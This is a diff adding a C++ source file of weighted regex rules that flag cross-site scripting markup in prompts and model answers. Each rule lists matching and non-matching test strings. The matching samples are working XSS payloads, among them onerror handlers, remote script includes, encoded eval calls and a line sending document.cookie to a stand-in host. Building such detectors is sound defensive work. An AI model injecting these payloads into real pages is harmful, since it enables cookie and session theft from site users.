@@ -1,0 +1,124 @@
+// Active markup: what a browser would run if the prompt or its answer were shown as HTML. Markup that is quoted in a
+// question about it weighs little by itself; what only an attack has weighs much.
+#include "gate/inspect/prompt/families.h"
+
+namespace gatehouse::prompt {
+namespace {
+
+#define PROBE "(?:alert|prompt|confirm|print)\\s?(?:\\(|`|&#|&lpar|%28|\\\\u0028|\\\\x28)"
+#define HANDLER "\\bon[a-z]{3,24}\\s?="
+
+constexpr Rule kRules[] = {
+    {"a script that probes",
+     kCertain,
+     "<\\s?script[^>]{0,200}>\\s?[^<]{0,24}?(?:javascript:)?(?:[a-z]{0,8}[;({\\s]\\s?)?" PROBE
+     "|<\\s?script[^>]{0,80}>\\s?(?:(?:window\\.|self\\.)?(?:document\\.)?(?:cookie|location|write\\s?\\(\\s?(?:string|"
+     "unescape|atob))|(?:window\\.)?location\\s?=|eval\\s?\\(|string\\.fromcharcode)",
+     {"<script>alert('xss')</script>", "<ScRiPt >prompt(1)</script>", "<script>document.location='//x'</script>"},
+     {"<script src=\"app.js\"></script>", "<script>function alertUser() {}</script>"}},
+    {"a handler that probes",
+     kCertain,
+     HANDLER
+     "\\s?[\"'`]?\\s?(?:javascript:\\s?)?(?:[a-z.\\[\\]\"'()]{0,24}[;=({\\s])?\\s?" PROBE
+     "\\s?[\"'`]?[0-9a-z/.\"'`]{0,12}\\)?\\s?[\"'`]?\\s?(?:>|//|/"
+     "|<|$|\\n|;|\\s[a-z]+=)|<(?:img|svg|body|iframe|video|audio|input|object|details|marquee|math|embed|isindex|style|"
+     "x|a|b|div|form|select|textarea|keygen|frameset|table|bgsound|link|meta|base|source|image|button|p)[\\s/"
+     "][^>]{0,300}" HANDLER "\\s?[\"'`]?\\s?(?:javascript:|" PROBE
+     "|eval|window|document\\.|top\\[|self\\[|location|this\\.|throw\\b|import\\(|fetch\\(|\\(|&#|\\\\|%|[a-z]=|write)",
+     {"<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\" onmouseover=alert(1) \""},
+     {"<button onclick=\"save()\">", "The on switch = off"}},
+    {"javascript in a link",
+     kStrong,
+     "(?:href|src|action|formaction|data|xlink:href|background|dynsrc|lowsrc|code|classid|poster|url|content|from|to|"
+     "values|folder|style|codebase|srcdoc|archive|profile|longdesc)\\s?(?:=|\\(|:)\\s?[^a-z<>]{0,8}(?:&[#a-z0-9]{1,8};|"
+     "[\\x00-\\x20]){0,4}(?:javascript|vbscript|livescript|mocha|jav&[#a-z0-9]{1,8};?ascript|java[\\s/"
+     "*]{1,8}script|data:\\s?(?:text/html|image/svg|application/(?:xhtml|xml)|,<|;base64|text/"
+     "javascript|[^,]{0,30},\\s?(?:<|%3c|alert)))",
+     {"<a href=\"javascript:alert(1)\">", "src=data:text/html,<script>", "<iframe src=\"vbscript:x\""},
+     {"href=\"/about\"", "src=\"data:image/png;base64,AAA\""}},
+    {"javascript that probes",
+     kStrong,
+     "\\b(?:javascript|vbscript)\\s?(?::|&colon;|&#58;|&#x3a;)\\s?[^\\n]{0,40}?(?:" PROBE
+     "|msgbox|eval|document\\.|window\\.|location|string\\.fromcharcode|void|//|%)",
+     {"javascript:alert(1)", "javascript:void(document.cookie)"},
+     {"JavaScript: the good parts"}},
+    {"out of an attribute",
+     kStrong,
+     "[\"'`]\\s?/"
+     "?>\\s?<\\s?(?:script|img|svg|iframe|body|video|audio|object|embed|meta|link|style|input|a\\s|x\\b|h1|marquee|"
+     "details|form|base|b\\b|plaintext)|</"
+     "(?:title|textarea|script|style|noscript|xmp|iframe|template|noembed|select|option)>\\s?[\"'>;-]{0,4}\\s?<\\s?/"
+     "?(?:script|img|svg|iframe|body)[\\s/"
+     ">]|[\"'][;)\\]}]{1,3}\\s?(?:alert|prompt|confirm|eval)\\s?\\(|[\"']\\s?[-+*^|&/"
+     "%;]\\s?(?:alert|prompt|confirm|eval)\\s?[(`].{0,16}[-+*^|&/%;]\\s?[\"']?|--!?>\\s?<\\s?(?:script|img|svg)",
+     {"\"><script src=//x></script>", "';alert(1);'", "</title><svg onload=x>"},
+     {"<a href=x>y</a>", "say 'hi'"}},
+    {"a script from elsewhere",
+     kStrong,
+     "<\\s?script[^>]{0,80}(?:src|href|xlink:href)\\s?=\\s?[\"'`]?(?://|\\\\\\\\|data:|http://"
+     "[^\\s\"'>]{0,60}(?:xss|evil|attack|ckers)|https?://(?:[0-9]{1,3}\\.){3}|/\\\\)|<\\s?/?script[/"
+     "\\x09][^>]{0,20}(?:[a-z]|>)|<\\s?script\\s?<|<<\\s?script|<\\s?scr\\x00?<\\s?script|<scr<script|%3cscript|"
+     "\\\\x3cscript|\\\\u003cscript|\\+adw-script|&lt;?script&gt;?|\xc2\xbc\\s?script",
+     {"<script src=//evil.example/x.js>", "<<script>alert", "%3Cscript%3E"},
+     {"<script src=\"https://cdn.example.com/react.js\"></script>", "<script src=\"/js/app.js\">"}},
+    {"cookies sent away",
+     kStrong,
+     "(?:document|this|self|top|window|frames)\\s?(?:\\.|\\[\\s?[\"'`])\\s?(?:cookie|domain|location)\\b.{0,60}(?:http|"
+     "//"
+     "|\\+|\\()|(?:location|\\.src|fetch|xmlhttprequest|sendbeacon|open).{0,60}document\\.cookie|\\balert\\s?\\(\\s?(?:"
+     "document\\.(?:cookie|domain|location)|[\"'`/]?xss|string\\.fromcharcode|/"
+     "xss|window\\.|self|origin|top|[0-9]{1,6}\\s?\\)\\s?[\"'`;/>]{0,3}\\s?(?:<|//|\\x22))",
+     {"new Image().src='//x/?c='+document.cookie", "alert(document.cookie)", "alert('XSS')"},
+     {"document.getElementById('x')", "alert('Saved!')"}},
+    {"odd tags",
+     kMedium,
+     "<\\s?(?:svg|math|iframe|object|embed|isindex|frameset|bgsound|applet|base|xml|xss|layer|ilayer|keygen|marquee|"
+     "plaintext|animate|set\\s|foreignobject|noembed)[\\s/"
+     "][^>]{0,200}?(?:on[a-z]{3,20}\\s?=|javascript|(?:src|href|data|code|srcdoc|from|to|values|style)\\s?=\\s?[\"'`]?("
+     "?:&|%|\\\\|//|data:|javascript|about:|vbs|\\#|http://"
+     "(?:ha\\.ckers|xss)))|<\\s?meta[^>]{0,80}(?:refresh|set-cookie|link|utf-7)[^>]{0,80}(?:javascript|data:|url\\s?=|<"
+     "|utf-7)|<\\s?link[^>]{0,60}(?:href\\s?=\\s?[\"']?(?:javascript|http://ha|data:|//"
+     "))|<\\s?style[^>]{0,60}>[^<]{0,80}(?:@import|expression|javascript|-moz-binding|behaviou?r\\s?:|\\\\[0-9a-f]{2})|"
+     "style\\s?=\\s?[^>]{0,80}(?:expression\\s?(?:\\(|/"
+     "|\\\\)|javascript|behaviou?r\\s?:|-moz-binding|-o-link|\\\\[0-9]{2,})|<\\s?!\\[cdata|<\\s?!entity|<\\?xml-"
+     "stylesheet|xmlns(?::[a-z]+)?\\s?=[^>]{0,80}(?:script|<)|<x:script|<!--\\[if|<html:script|<\\?import|<\\?php\\s?"
+     "echo",
+     {"<iframe src=\"javascript:x\">", "<meta http-equiv=\"refresh\" content=\"0;url=data:x\">",
+      "style=\"width: expression(alert(1))\""},
+     {"<style>body { color: red }</style>", "<svg viewBox=\"0 0 1 1\"></svg>"}},
+    {"code from characters",
+     kMedium,
+     "string\\s?\\.\\s?fromcharcode\\s?\\(\\s?[0-9,\\s]{8,}|\\beval\\s?[(`]\\s?(?:atob|unescape|string|name|location|"
+     "this|\\\\|\\+|[\"'`]\\\\|function|decodeuri|[a-z]\\)|[\"'`](?:al|ale|a\\\\))|\\bfunction\\s?\\(\\s?[\"'`](?:al|"
+     "\\\\)|\\(\\s?\\[\\]\\s?\\[|\\[\\s?\\+?!\\+?\\[\\]|\\$\\s?=\\s?~\\s?\\[\\]|\\b(?:window|self|top|parent|frames|"
+     "this|globalthis)\\s?\\[\\s?[\"'`/"
+     "(][^\\]]{0,40}\\]\\s?[(`]|\\.constructor\\s?\\(|\\bset(?:timeout|interval)\\s?[(`]\\s?[\"'`]?(?:alert|\\\\|al)|"
+     "\\bjsfuck|\\ba=alert|=\\s?alert\\b|\\(alert\\)|\\balert\\s?\\?\\.\\(|throw\\s?[/"
+     "\\s]?(?:1|onerror|alert)|onerror\\s?=\\s?alert",
+     {"eval(String.fromCharCode(97,108,101,114,116))", "eval(atob('YWxlcnQoMSk='))", "([][(![]+[])"},
+     {"evaluate(x)", "const x = [];"}},
+    {"a handler",
+     kWeak,
+     "<[a-z][^>]{0,200}[\\s/"
+     "\"']on(?:error|load|mouse[a-z]+|focus[a-z]*|blur|click|toggle|start|begin|end|finish|bounce|scroll|drag[a-z]*|"
+     "pointer[a-z]+|animation[a-z]+|transition[a-z]+|wheel|key[a-z]+|cut|copy|paste|beforescript[a-z]*|"
+     "readystatechange|resize|show|page[a-z]+|hashchange|message|input|change|submit|activate|deactivate|"
+     "beforeactivate|propertychange|filterchange|canplay[a-z]*|loadstart|loadeddata|loadedmetadata|afterscriptexecute|"
+     "afterprint|beforeprint|beforeunload|unload|popstate|storage|invalid|search|select[a-z]*|contextmenu|dblclick|"
+     "media[a-z]*|outofsync|repeat|reset|rowexit|seek|syncrestored|timeerror|trackchange|urlflip|webkit[a-z]+|auxclick|"
+     "fullscreenchange|gotpointercapture|play[a-z]*|pause|touch[a-z]+|cellchange|datasetchanged|dataavailable|help|"
+     "losecapture|move|resizestart)\\s?=",
+     {"<img src=x onerror=go()>", "<body/onload=x>"},
+     {"onward = 1"}},
+    {"script tags",
+     kWeak,
+     "<\\s?/?\\s?(?:script|iframe|object|embed|applet)\\b",
+     {"<script>", "</ script"},
+     {"a script", "<scripts>"}},
+};
+
+}  // namespace
+
+std::span<const Rule> MarkupRules() { return kRules; }
+
+}  // namespace gatehouse::prompt
